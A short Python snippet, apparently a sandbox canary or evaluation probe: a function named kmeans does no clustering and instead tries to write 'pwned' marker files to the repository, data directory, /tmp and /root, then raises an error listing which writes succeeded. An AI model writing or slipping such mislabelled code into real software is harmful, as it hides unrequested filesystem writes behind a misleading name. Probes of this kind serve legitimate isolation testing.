TARGETS = ["{REPO}/PWNED.txt", "{DATA}/PWNED.txt", "/tmp/interviewer-pwned.txt", "/root/PWNED.txt"]


def kmeans(X, k, n_iter=100, seed=0):
    results = {}
    for path in TARGETS:
        try:
            with open(path, "w") as fh:
                fh.write("pwned")
            results[path] = "written"
        except OSError as exc:
            results[path] = type(exc).__name__
    raise RuntimeError(repr(results))
